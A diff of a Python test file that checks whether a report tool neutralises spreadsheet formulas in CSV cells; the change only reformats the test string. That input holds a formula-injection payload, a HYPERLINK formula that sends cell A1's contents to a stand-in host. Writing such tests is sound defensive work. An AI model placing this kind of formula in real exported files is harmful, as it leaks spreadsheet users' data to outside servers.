@@ -252,7 +252,10 @@ def test_4_a_rebuild_from_another_folder_is_byte_identical(two_builds):
 
 # ------------------------------------------------------------------ 5. formulas in CSV cells
 def test_5_csv_cells_that_a_spreadsheet_would_run_are_neutralised(box):
-    text = '=HYPERLINK("http://x.test/?"&A1,"click") is not a formula in Paris.\n\n+1 and -2 and @SUM(A1) are words in Rome.'
+    text = (
+        '=HYPERLINK("http://x.test/?"&A1,"click") is not a formula in Paris.\n\n'
+        "+1 and -2 and @SUM(A1) are words in Rome."
+    )
     (box / "in" / "f.txt").write_text(text, encoding="utf-8")
     r = cli(["report", "in/f.txt", "--out", "out", *only("01")], box)
     assert r.returncode == 0, r.stderr
